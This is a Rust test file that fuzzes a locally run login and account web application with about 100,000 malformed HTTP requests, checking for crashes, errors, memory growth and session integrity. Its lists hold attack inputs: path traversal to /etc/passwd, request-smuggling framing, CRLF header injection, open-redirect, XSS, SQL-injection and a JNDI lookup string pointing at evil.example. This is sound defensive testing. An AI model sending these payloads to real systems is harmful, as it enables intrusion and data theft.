//! A hundred thousand requests that no browser sends, over TCP to the running program.

use std::collections::BTreeMap;
use std::io::{self, BufRead as _, BufReader, ErrorKind, Read as _, Write as _};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use reqwest::StatusCode;
use tempfile::TempDir;

use crate::program::{PATIENCE, PATIENT, Program, account, client, log, log_in, sign_up};

/// This seed and the number of a sender determine everything that is sent.
const SEED: u64 = 0x0d00_4a4d;
const SENDERS: u64 = 16;
const QUARTERS: usize = 4;
/// 100,000 by all senders in all quarters.
const REQUESTS: usize = 1_563;

/// How much more resident memory the program may have after the last quarter than after the second, in KiB. It grows by
/// 1.2 MiB from there, while caches and the allocator settle, and then stays: 14 quarters in a row ended between 82.4 and
/// 85.2 MiB. With a leak of 100 bytes a request it grows by 4.5 MiB.
const MARGIN: u64 = 3 * 1024;

/// How long a sender waits for an answer that may not come. With a shorter wait, it only reads fewer answers.
const MOMENT: Duration = Duration::from_millis(30);

#[tokio::test]
async fn a_hundred_thousand_hostile_requests_leave_it_as_it_was() {
    let folder = TempDir::new().unwrap();
    // `PATIENT`, so that no full hashing queue causes a 503; few requests need a hash anyway.
    let program = Program::start_after("ulimit -v 2097152", folder.path(), &[PATIENT, ("RUST_LOG", "info")]);
    let browser = client();
    sign_up(&browser, &program.url, "ada").await;
    let session = log_in(&browser, &program.url, "ada").await;
    let port = program.url.rsplit(':').next().unwrap().parse().unwrap();
    let address = SocketAddr::from(([127, 0, 0, 1], port));

    let mut senders: Vec<_> = (0..SENDERS).map(|number| Sender::new(number, address, &session)).collect();
    let mut memory = Vec::new();
    for _quarter in 0..QUARTERS {
        thread::scope(|scope| {
            for sender in &mut senders {
                scope.spawn(|| sender.send(REQUESTS));
            }
        });
        memory.push(program.memory().0);
    }

    let mut statuses = BTreeMap::<_, usize>::new();
    for (status, count) in senders.into_iter().flat_map(|sender| sender.statuses) {
        *statuses.entry(status).or_default() += count;
    }
    let all: usize = statuses.values().sum();
    assert!(all >= 100_000 && statuses[&UNANSWERED] < all / 5, "{statuses:?}");
    for status in [200, 303, 400, 403, 404, 405, 413, 414, 415, 422, 431] {
        assert!(statuses.contains_key(&status), "no {status}, so these requests miss something: {statuses:?}");
    }
    // The log also has failures whose answers were not read.
    let log = log(folder.path());
    let failure = log.lines().find(|line| line.contains("panicked") || line.contains(" ERROR "));
    assert_eq!(failure, None, "seed {SEED:#x}");
    assert!(memory[3] <= memory[1] + MARGIN, "it grows: {memory:?} KiB");
    assert_eq!(browser.get(format!("{}/", program.url)).send().await.unwrap().status(), StatusCode::OK);
    assert_eq!(account(&browser, &program.url, &session).await, StatusCode::OK, "nobody ended the real session");
}

/// Sends messages one after the other.
struct Sender {
    number: u64,
    dice: Dice,
    address: SocketAddr,
    session: String,
    connection: Option<Connection>,
    /// How often each status was answered, and how often there was no answer.
    statuses: BTreeMap<u16, usize>,
}

type Connection = BufReader<TcpStream>;

impl Sender {
    fn new(number: u64, address: SocketAddr, session: &str) -> Self {
        let dice = Dice(SEED + (number << 32));
        Self { number, dice, address, session: session.to_owned(), connection: None, statuses: BTreeMap::new() }
    }

    fn send(&mut self, count: usize) {
        let mut sent = 0;
        while sent < count {
            let message = Message::random(&mut self.dice, &self.session);
            let statuses = self.exchange(&message).unwrap_or_else(|error| {
                let bytes = message.bytes.escape_ascii().to_string();
                panic!("seed {SEED:#x}, sender {}, request {sent}: {error} to {bytes:.4000}", self.number)
            });
            let unanswered = message.requests.saturating_sub(statuses.len());
            *self.statuses.entry(UNANSWERED).or_default() += unanswered;
            for status in statuses {
                *self.statuses.entry(status).or_default() += 1;
            }
            sent += message.requests;
        }
        // An open one would count as memory.
        self.connection = None;
    }

    /// Sends a message, and returns the statuses of the answers.
    fn exchange(&mut self, message: &Message) -> io::Result<Vec<u16>> {
        if let Some(mut connection) = self.connection.take() {
            let (statuses, is_over) = exchange_over(&mut connection, message)?;
            // Without an answer, the program may have ended the connection before it saw this message.
            if !statuses.is_empty() || message.ending == Ending::Gone {
                self.connection = Some(connection).filter(|_| !is_over);
                return Ok(statuses);
            }
        }
        let stream = TcpStream::connect(self.address)?;
        stream.set_write_timeout(Some(PATIENCE))?;
        stream.set_nodelay(true)?;
        let mut connection = BufReader::new(stream);
        let (statuses, is_over) = exchange_over(&mut connection, message)?;
        if statuses.is_empty() && message.ending == Ending::Answered {
            return Err(io::Error::other("no answer"));
        }
        self.connection = Some(connection).filter(|_| !is_over);
        Ok(statuses)
    }
}

/// Returns the answers' statuses, and whether the connection is over.
fn exchange_over(connection: &mut Connection, message: &Message) -> io::Result<(Vec<u16>, bool)> {
    // The answer and the end of the connection may come before everything is sent.
    let is_cut = connection.get_mut().write_all(&message.bytes).map(|()| false).or_else(is_end)?;
    if message.ending == Ending::Gone {
        return Ok((Vec::new(), true));
    }
    let (mut statuses, mut has_ended) = (Vec::new(), false);
    while has_ended || statuses.len() < message.requests {
        let stream = connection.get_ref();
        if message.ending == Ending::Ended && !has_ended {
            stream.set_read_timeout(Some(MOMENT))?;
            let comes = !connection.buffer().is_empty() || stream.peek(&mut [0]).is_ok();
            if !comes {
                has_ended = true;
                let _gone_already = stream.shutdown(Shutdown::Write);
            }
        }
        stream.set_read_timeout(Some(PATIENCE))?;
        let has_no_body = statuses.is_empty() && message.is_head;
        let answer = read_answer(connection, has_no_body).or_else(|error| match error.kind() {
            // An answer that was on its way when the program saw the end.
            ErrorKind::UnexpectedEof if has_ended => Ok(None),
            _ => is_end(error).map(|_| None),
        })?;
        let Some((status, is_last)) = answer else { return Ok((statuses, true)) };
        if status >= 500 {
            return Err(io::Error::other(format!("{status} is the answer")));
        }
        if status != INTERIM {
            statuses.push(status);
        }
        if is_last {
            return Ok((statuses, true));
        }
    }
    Ok((statuses, is_cut || message.ending == Ending::Ended || message.is_last))
}

/// Stands for the status of an answer that did not come, or that the sender did not wait for.
const UNANSWERED: u16 = 0;

/// “Go on and send the body”; the answer comes later.
const INTERIM: u16 = 100;

fn is_end(error: io::Error) -> io::Result<bool> {
    match error.kind() {
        ErrorKind::BrokenPipe | ErrorKind::ConnectionReset | ErrorKind::ConnectionAborted => Ok(true),
        _ => Err(error),
    }
}

/// Reads an answer to its end: its status, and whether it is the last one. `None` at the end of the connection.
fn read_answer(connection: &mut Connection, has_no_body: bool) -> io::Result<Option<(u16, bool)>> {
    let malformed = |what: &[u8]| io::Error::new(ErrorKind::InvalidData, what.escape_ascii().to_string());
    let mut line = Vec::new();
    if connection.read_until(b'\n', &mut line)? == 0 {
        return Ok(None);
    }
    let status = match line.as_slice() {
        [b'H', b'T', b'T', b'P', b'/', b'1', b'.', b'0' | b'1', b' ', status @ .., b'\r', b'\n'] => {
            let digits = status.split(|&byte| byte == b' ').next().and_then(|digits| str::from_utf8(digits).ok());
            digits.filter(|digits| digits.len() == 3).and_then(|digits| digits.parse().ok())
        }
        _ => None,
    };
    let status: u16 = status.ok_or_else(|| malformed(&line))?;
    let mut is_last = line.starts_with(b"HTTP/1.0");
    let mut length = None;
    loop {
        line.clear();
        if connection.read_until(b'\n', &mut line)? == 0 {
            return Err(ErrorKind::UnexpectedEof.into());
        }
        if line == b"\r\n" {
            break;
        }
        let header = str::from_utf8(&line).ok().and_then(|line| line.strip_suffix("\r\n")?.split_once(": "));
        let (name, value) = header.ok_or_else(|| malformed(&line))?;
        match name {
            "connection" => is_last = value != "keep-alive",
            "content-length" => length = Some(value.parse().map_err(|_| malformed(&line))?),
            _ => {}
        }
    }
    if has_no_body || status == INTERIM {
        return Ok(Some((status, is_last)));
    }
    let length = length.ok_or_else(|| malformed(b"no length"))?;
    let read = connection.take(length).read_to_end(&mut Vec::new())? as u64;
    if read == length { Ok(Some((status, is_last))) } else { Err(ErrorKind::UnexpectedEof.into()) }
}

/// Bytes that are sent at once.
struct Message {
    bytes: Vec<u8>,
    requests: usize,
    is_head: bool,
    ending: Ending,
    /// Whether the next one takes a new connection.
    is_last: bool,
}

/// The sender's behaviour once everything is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ending {
    /// It waits for the answers.
    Answered,
    /// It waits a moment, then closes its direction: the program may be waiting for more.
    Ended,
    /// It ends the connection.
    Gone,
}

impl Message {
    fn random(dice: &mut Dice, session: &str) -> Self {
        if dice.hits(20) {
            return Self::pipeline(dice, session);
        }
        let draft = Draft::random(dice, session);
        let (is_head, mut ending) = (draft.method == b"HEAD", draft.ending);
        let mut bytes = draft.into_bytes();
        // Behind the method, as the form of the answer depends on the method.
        let behind = |dice: &mut Dice, bytes: &[u8]| (5 + dice.roll(bytes.len() - 4)).min(bytes.len() - 1);
        match dice.roll(24) {
            0 | 1 => {
                bytes.truncate(behind(dice, &bytes));
                ending = dice.pick(&[Ending::Ended, Ending::Gone]);
            }
            2 | 3 => {
                for _ in 0..=dice.roll(4) {
                    let at = behind(dice, &bytes);
                    match dice.roll(3) {
                        0 => bytes[at] = dice.byte(),
                        1 => bytes.insert(at, dice.byte()),
                        _ => drop(bytes.remove(at)),
                    }
                }
                ending = Ending::Ended;
            }
            4 => ending = Ending::Gone,
            _ => {}
        }
        Self { bytes, requests: 1, is_head, ending, is_last: dice.hits(10) }
    }

    /// Several requests that are sent without waiting for the first answer.
    fn pipeline(dice: &mut Dice, session: &str) -> Self {
        let wanted = 2 + dice.roll(7);
        let (mut bytes, mut requests) = (Vec::new(), 0);
        while requests < wanted {
            let draft = Draft::random(dice, session);
            if draft.ending == Ending::Answered && draft.method != b"HEAD" {
                bytes.extend(draft.into_bytes());
                requests += 1;
            }
        }
        Self { bytes, requests, is_head: false, ending: Ending::Answered, is_last: true }
    }
}

/// A request before it is put together.
struct Draft<'a> {
    method: Vec<u8>,
    gap: &'static [u8],
    target: Vec<u8>,
    version: &'static [u8],
    line_end: &'static [u8],
    /// Whole lines.
    headers: Vec<Vec<u8>>,
    body: Vec<u8>,
    /// Whether a header already tells the length of the body.
    is_framed: bool,
    /// The cookie of a real session, if the request has one.
    session: Option<&'a str>,
    ending: Ending,
}

#[rustfmt::skip]
const PAGES: &[&str] = &[
    "/", "/", "/log_in", "/sign_up", "/account", "/account/sessions", "/account/password", "/account/username",
    "/account/reauthenticate?next=/account", "/account/activity?before=x", "/health/live", "/health/ready", "/assets/style.css",
];

/// Paths whose forms are checked by a password hash.
const COSTLY: [&str; 4] = ["/log_in", "/account/password", "/account/reauthenticate", "/account/delete"];

/// Ways to make an ordinary request a hostile one.
const TRICKS: [fn(&mut Draft<'_>, &mut Dice); 12] = [
    odd_request_line,
    odd_target,
    odd_target,
    odd_header,
    odd_header,
    junk_in_known_headers,
    junk_in_known_headers,
    odd_cookies,
    odd_cookies,
    odd_framing,
    odd_form,
    odd_form,
];

impl<'a> Draft<'a> {
    fn random(dice: &mut Dice, session: &'a str) -> Self {
        let mut draft = Self {
            method: b"GET".to_vec(),
            gap: b" ",
            target: dice.pick(PAGES).into(),
            version: b"HTTP/1.1",
            line_end: b"\r\n",
            headers: vec![b"Host: localhost".to_vec()],
            body: Vec::new(),
            is_framed: false,
            session: dice.hits(5).then_some(session),
            ending: Ending::Answered,
        };
        if let Some(session) = draft.session {
            draft.header("Cookie", session);
        }
        // A page takes the program longer than a problem document.
        if dice.hits(2) {
            draft.header("Accept", "application/json");
        }
        for _ in 0..=dice.roll(3) {
            dice.pick(&TRICKS)(&mut draft, dice);
        }
        // A hash takes longer than twenty other requests.
        let costs_a_hash = COSTLY.iter().any(|path| draft.target.starts_with(path.as_bytes()));
        if draft.method == b"POST" && costs_a_hash && !dice.hits(10) {
            draft.target = "/sign_up".into();
        }
        draft
    }

    fn header(&mut self, name: &str, value: impl AsRef<[u8]>) {
        self.headers.push([name.as_bytes(), b": ", value.as_ref()].concat());
    }

    fn into_bytes(mut self) -> Vec<u8> {
        if !self.is_framed && !self.body.is_empty() {
            self.header("Content-Length", self.body.len().to_string());
        }
        let line = [&self.method, self.gap, &self.target, self.gap, self.version].concat();
        let lines: Vec<_> = [line].into_iter().chain(self.headers).chain([Vec::new(), self.body]).collect();
        lines.join(self.line_end)
    }
}

fn odd_request_line(draft: &mut Draft<'_>, dice: &mut Dice) {
    #[rustfmt::skip]
    const METHODS: &[&[u8]] = &[
        b"HEAD", b"HEAD", b"POST", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"TRACE", b"CONNECT", b"get", b"FOO",
        b"PRI", b"G\xc3\x89T", b"GET\0", b"", b"GET\t", b"\r\n\r\nGET",
    ];
    #[rustfmt::skip]
    const VERSIONS: &[&[u8]] = &[
        b"HTTP/1.0", b"HTTP/1.0", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/0.9", b"http/1.1", b"HTTP/1.1 ", b"HTTP/1.", b"",
        b"HTTP/1.1\0",
    ];
    let gaps: [&[u8]; 4] = [b"  ", b"\t", b"\x0b", b""];
    let ends: [&[u8]; 5] = [b"\n", b"\r", b"\n\r", b"\r\r\n", b"\r\n\0"];
    match dice.roll(8) {
        0..=2 => draft.method = dice.pick(METHODS).to_vec(),
        3 => draft.method = dice.junk(40),
        4 | 5 => draft.version = dice.pick(VERSIONS),
        6 => draft.gap = dice.pick(&gaps),
        _ => draft.line_end = dice.pick(&ends),
    }
    if !matches!(draft.method.as_slice(), b"GET" | b"HEAD" | b"POST" | b"PUT" | b"DELETE" | b"PATCH") {
        draft.ending = Ending::Ended;
    }
    if draft.version != b"HTTP/1.1" || draft.gap != b" " || draft.line_end != b"\r\n" {
        draft.ending = Ending::Ended;
    }
}

fn odd_target(draft: &mut Draft<'_>, dice: &mut Dice) {
    #[rustfmt::skip]
    const TARGETS: &[&[u8]] = &[
        b"*", b"", b"//", b"///evil.example", b"/..", b"/./", b"/../../etc/passwd", b"/%2e%2e/%2e%2e/etc/passwd",
        b"/assets/..%2f..%2fsecret_key", b"/assets/%00", b"/assets/", b"/assets/style.css/x", b"/%", b"/%zz", b"/%ff",
        b"/%00", b"/%E2%80%AE", b"/\xff\xfe", b"/\xc3\xa9", b"/\0", b"/a b", b"/\\", b"/;", b"/#x", b"/log_in#x",
        b"/log_in/", b"/LOG_IN", b"/log%5fin", b"/.refused", b"/.well-known/change-password", b"/?", b"/?&&=&=",
        b"/?%", b"http://evil.example/", b"http://evil.example", b"https://[::1]:1/account", b"http://@/",
        b"evil.example:443", b"http://evil.example:99999/", b"ftp://x", b"javascript:alert(1)", b"/health/ready?x=%ff",
        b"account", b"?next=/",
    ];
    let asked = ["/log_in?next=", "/sign_up?next=", "/account/reauthenticate?next=", "/account/activity?before="];
    draft.target = match dice.roll(10) {
        0..=3 => dice.pick(TARGETS).to_vec(),
        4 => [b"/", dice.junk(60).as_slice()].concat(),
        5 => [b"/", "a/%2f".repeat(dice.roll(2_000)).as_bytes()].concat(),
        6 if dice.hits(10) => [b"/", "a".repeat(80_000).as_bytes()].concat(),
        _ => [dice.pick(&asked).as_bytes(), &odd_value(dice)].concat(),
    };
    // The program may take a part of the target for its end, and so for the end of the request.
    if draft.target.iter().any(|byte| !byte.is_ascii_graphic()) || draft.target.is_empty() {
        draft.ending = Ending::Ended;
    }
}

fn odd_header(draft: &mut Draft<'_>, dice: &mut Dice) {
    #[rustfmt::skip]
    const LINES: &[&[u8]] = &[
        b"X", b": x", b"X : x", b" X: x", b"X: a\r\n b", b"X: a\r\n\tb", b"X: \0", b"X: \x7f", b"X: \xff\xfe",
        b"X\xff: x", b"X(: x", b"X: a\nY: b", b"X: a\rY: b", b"Host: evil.example", b"Host: localhost", b"Host:",
        b"Connection: close", b"Connection: keep-alive, upgrade", b"Upgrade: h2c", b"Upgrade: websocket",
        b"Expect: 100-continue", b"Expect: the worst", b"TE: trailers", b"Range: bytes=0-0,-1", b"If-None-Match: *",
        b"HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
    ];
    match dice.roll(12) {
        0 => {
            let count = dice.pick(&[20, 99, 100, 101, 500]);
            draft.headers.extend((0..count).map(|number| format!("X-{number}: {number}").into_bytes()));
        }
        1 => draft.header("X", "a".repeat(dice.pick(&[1_000, 10_000]))),
        2 if dice.hits(20) => draft.header("X", "a".repeat(500_000)),
        3 if dice.hits(4) => long_header(draft, dice),
        3 => draft.headers.clear(),
        4 => {
            let line = dice.junk(60);
            draft.headers.push(line);
        }
        _ => draft.headers.push(dice.pick(LINES).to_vec()),
    }
    let is_plain = |line: &Vec<u8>| line.contains(&b':') && line.iter().all(|byte| matches!(byte, b' '..=b'~'));
    if draft.headers.is_empty() || !draft.headers.iter().all(is_plain) {
        draft.ending = Ending::Ended;
    }
}

/// Up to as many bytes as hyper reads of a request's head, in one header or in two.
fn long_header(draft: &mut Draft<'_>, dice: &mut Dice) {
    let name = dice.pick(&["Accept", "Content-Type", "Cookie", "Forwarded", "Origin", "User-Agent", "X-Forwarded-For"]);
    let unit = dice.pick(&["a/b,", ";a=b", "a=b; ", "for=1,", "\"", "%41"]);
    let (count, length) = dice.pick(&[(1, 400_000), (2, 200_000), (1, 16_000), (2, 8_000)]);
    for _ in 0..count {
        draft.header(name, unit.repeat(length / unit.len()));
    }
}

fn junk_in_known_headers(draft: &mut Draft<'_>, dice: &mut Dice) {
    #[rustfmt::skip]
    const NAMES: &[&str] = &[
        "Origin", "Sec-Fetch-Site", "Sec-Fetch-Dest", "Sec-Purpose", "Forwarded", "X-Forwarded-For",
        "X-Forwarded-Host", "X-Forwarded-Proto", "X-Real-IP", "X-HTTP-Method-Override", "Accept", "Accept",
        "User-Agent", "Content-Type", "Referer", "Authorization",
    ];
    #[rustfmt::skip]
    const VALUES: &[&str] = &[
        "", "null", "http://localhost", "https://evil.example", "http://localhost:0", "http://", "same-origin",
        "cross-site", "none", "document", "prefetch", "for=\"[::1]:80\";proto=https", "for=_hidden, for=\"",
        "1.2.3.4, ::1", "256.1.1.1", ",,,,", "DELETE", "application/json", "text/html;q=0.1, application/json;q=9e9",
        "*/*;q=-1", "a/b;c", "/", "Mozilla/5.0 (X11; Linux) Firefox/128.0", "application/x-www-form-urlencoded",
        "multipart/form-data", "text/html;q=\"", "Basic Og==", "application/problem+json",
    ];
    for _ in 0..=dice.roll(3) {
        let name = dice.pick(NAMES);
        match dice.roll(6) {
            0 => draft.header(name, dice.junk(60).escape_ascii().to_string()),
            1 => draft.header(name, dice.pick(VALUES).repeat(dice.roll(100))),
            _ => draft.header(name, dice.pick(VALUES)),
        }
    }
}

fn odd_cookies(draft: &mut Draft<'_>, dice: &mut Dice) {
    #[rustfmt::skip]
    const OTHERS: &[&str] = &[
        "doorward", "doorward=", "=x", "=", ";;;;", "doorward-flash=x", "doorward-flash=account_created",
        "_flash=1:%C3%A9", "_flash=9:x", "__Host-doorward=x", "a=%ff; b=%00; c=%", "a=\"b; c\"", "$Version=1; a=b",
        "doorward =x", " doorward=x", "DOORWARD=x", "rocket=1", "doorward\t=x",
    ];
    let own = draft.session.unwrap_or("doorward=QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB");
    let value = own.split_once('=').map_or("", |(_, value)| value);
    let cookies = match dice.roll(10) {
        0 => own.to_owned(),
        1 => format!("{own}; {own}"),
        2 => format!("%64oorward={value}"),
        3 => format!("doorward-flash={value}; doorward-flash={value}"),
        4 => format!("doorward={}", &value[..dice.roll(value.len())]),
        5 => format!("doorward={}", "A".repeat(dice.pick(&[43, 4_096, 9_000]))),
        6 => "a=b; ".repeat(dice.roll(500)),
        7 => dice.junk(80).escape_ascii().to_string(),
        _ => dice.pick(OTHERS).to_owned(),
    };
    draft.header("Cookie", cookies);
}

fn odd_framing(draft: &mut Draft<'_>, dice: &mut Dice) {
    #[rustfmt::skip]
    const LENGTHS: &[&str] = &[
        "-1", "+5", "0x5", "5, 5", "5,6", "", " ", "5 5", "five", "99999", "18446744073709551616", "4", "0",
        "9223372036854775807",
    ];
    #[rustfmt::skip]
    const CODINGS: &[&str] = &[
        "chunked, chunked", "gzip, chunked", "chunked, gzip", "identity", "x", "\x0bchunked", "CHUNKED", "chunked;a=b",
        "",
    ];
    #[rustfmt::skip]
    const CHUNKS: &[&str] = &[
        "zz\r\n", "5\r\nab", "fffffffffffffffff\r\n", "5;a=b\r\nhello\r\n0\r\n\r\n", "5\r\nhelloX\r\n", "-1\r\n",
        "0\r\nX: y\r\n\r\n", "5\nhello\n0\n\n", "5\r\nhello\r\n", "0\r\n", "\r\n",
        "5\r\nhello\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    ];
    draft.is_framed = true;
    draft.ending = Ending::Ended;
    if dice.hits(2) {
        draft.method = b"POST".to_vec();
        draft.header("Content-Type", "application/x-www-form-urlencoded");
    }
    if draft.body.is_empty() {
        draft.body = b"hello".to_vec();
    }
    let length = draft.body.len();
    match dice.roll(7) {
        0 => {
            draft.header("Content-Length", length.to_string());
            draft.header("Content-Length", (length + dice.roll(2)).to_string());
        }
        1 => draft.header("Content-Length", dice.pick(LENGTHS)),
        2 => {
            draft.header("Content-Length", length.to_string());
            draft.header("Transfer-Encoding", "chunked");
        }
        3 => draft.header("Transfer-Encoding", dice.pick(CODINGS)),
        4 => {
            draft.header("Transfer-Encoding", "chunked");
            draft.body = [format!("{length:x}\r\n").as_bytes(), &draft.body, b"\r\n0\r\n\r\n"].concat();
        }
        _ => {
            draft.header("Transfer-Encoding", "chunked");
            draft.body = dice.pick(CHUNKS).into();
        }
    }
}

fn odd_form(draft: &mut Draft<'_>, dice: &mut Dice) {
    #[rustfmt::skip]
    const TYPES: &[&str] = &[
        "", "text/plain", "application/json", "multipart/form-data", "multipart/form-data; boundary=\"\"",
        "multipart/form-data; boundary=other", "multipart/mixed; boundary=b",
        "application/x-www-form-urlencoded; charset=utf-16", "/",
    ];
    let path = match draft.session {
        _ if dice.hits(5) => dice.pick(&COSTLY),
        // A session that its requests end or rename would make the next ones anonymous.
        Some(_) => dice.pick(&["/account/sessions/log_out", "/account", "/account/activity", "/account/sessions"]),
        None => dice.pick(&["/sign_up", "/sign_up", "/sign_up", "/account/username", "/log_out", "/.refused", "/"]),
    };
    draft.target = path.into();
    // Rocket takes a POST whose form begins with `_method` for another method.
    let methods = ["POST", "POST", "POST", "GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"];
    draft.method = dice.pick(&methods).into();
    let is_multipart = dice.hits(2);
    draft.body = if is_multipart { odd_multipart(dice) } else { odd_urlencoded(dice) };
    match dice.roll(8) {
        0 => draft.header("Content-Type", dice.pick(TYPES)),
        _ if is_multipart => draft.header("Content-Type", "multipart/form-data; boundary=b"),
        _ => draft.header("Content-Type", "application/x-www-form-urlencoded"),
    }
}

fn odd_name(dice: &mut Dice) -> Vec<u8> {
    #[rustfmt::skip]
    const NAMES: &[&str] = &[
        "username", "username", "password", "password", "current_password", "new_password", "session", "next", "keep",
        "_method", "username[]", "username.x", "username:y", "password[0]", "next[", "%75sername", "%ff", "", "[]",
        "..", "a[b", "]",
    ];
    match dice.roll(20) {
        0 => dice.junk(20),
        1 => ["a", "[b].c:d"].concat().repeat(dice.roll(600)).into(),
        _ => dice.pick(NAMES).into(),
    }
}

fn odd_value(dice: &mut Dice) -> Vec<u8> {
    #[rustfmt::skip]
    const VALUES: &[&str] = &[
        "", "ada", "a b", "+", "%", "%z", "%ff", "%00", "%0d%0aX:y", "%E2%80%AE", "%F0%9F%94%91", "\u{1f511}",
        "delete", "get", "head", "trace", "yes", "//evil.example", "/account", "/log_out", "/%2fevil.example",
        "/%5cevil.example", "https://evil.example/", "javascript:alert(1)", "/a?b=c&d", "%2F%2Fevil.example",
        "/\\evil.example", "/%0d%0a", "018f0000-0000-7000-8000-000000000000", "{{7*7}}", "<script>alert(1)</script>",
        "'; DROP TABLE users; --", "${jndi:ldap://evil.example}", "../../etc/passwd",
    ];
    match dice.roll(16) {
        0 => dice.junk(60).escape_ascii().to_string().into(),
        1 => "a".repeat(dice.roll(5_000)).into(),
        _ => dice.pick(VALUES).into(),
    }
}

fn odd_urlencoded(dice: &mut Dice) -> Vec<u8> {
    let count = match dice.roll(20) {
        0 => 1_000,
        1 => 0,
        _ => 1 + dice.roll(6),
    };
    let joint: &[u8] = dice.pick(&["&", "&", "&", "&&", ";", "&=&"]).as_bytes();
    let mut fields: Vec<_> = (0..count).map(|_| [odd_name(dice), b"=".to_vec(), odd_value(dice)].concat()).collect();
    if dice.hits(4) {
        let method =
            dice.pick(&["delete", "get", "head", "put", "DELETE", "trace", "patch", "connect", "deletes", "%"]);
        fields.insert(0, format!("_method={method}").into());
    }
    let mut form = fields.join(joint);
    match dice.roll(30) {
        0 => form.extend("a".repeat(33 * 1024).bytes()),
        1 => form.extend(dice.junk(60)),
        _ => {}
    }
    form
}

fn odd_multipart(dice: &mut Dice) -> Vec<u8> {
    #[rustfmt::skip]
    const HEADERS: &[&str] = &[
        "", "Content-Type: text/plain; charset=utf-16\r\n", "Content-Type: /\r\n",
        "Content-Transfer-Encoding: base64\r\n", "X\r\n", "Content-Disposition: form-data; name=\"username\"\r\n",
        "\r\n", "Content-Length: 9\r\n",
    ];
    const NAMED: [&str; 5] = ["", "; filename=\"x\"", "; filename*=utf-8''%ff", "; name=\"password\"", "\""];
    let count = if dice.hits(30) { 300 } else { dice.roll(5) };
    let mut form = Vec::new();
    for _ in 0..count {
        form.extend(b"--b\r\nContent-Disposition: form-data; name=\"");
        form.extend(odd_name(dice));
        form.extend([b"\"", dice.pick(&NAMED).as_bytes(), b"\r\n", dice.pick(HEADERS).as_bytes(), b"\r\n"].concat());
        form.extend(odd_value(dice));
        form.extend(b"\r\n");
    }
    let ends: [&[u8]; 6] = [b"--b--\r\n", b"--b--\r\n", b"--b--", b"--b", b"", b"--b\r\n\r\n"];
    form.extend(dice.pick(&ends));
    if dice.hits(30) {
        form.extend("a".repeat(33 * 1024).bytes());
    }
    form
}

/// `SplitMix64`: the same numbers for the same seed, on every machine.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// A number below `sides`; 0 where there is none.
    fn roll(&mut self, sides: usize) -> usize {
        usize::try_from(self.next() % sides.max(1) as u64).unwrap()
    }

    /// Whether it is the one case in `cases`.
    fn hits(&mut self, cases: usize) -> bool {
        self.roll(cases) == 0
    }

    fn pick<T: Copy>(&mut self, of: &[T]) -> T {
        of[self.roll(of.len())]
    }

    fn byte(&mut self) -> u8 {
        self.next().to_le_bytes()[0]
    }

    /// Fewer than `most` bytes of any kind.
    fn junk(&mut self, most: usize) -> Vec<u8> {
        (0..self.roll(most)).map(|_| self.byte()).collect()
    }
}
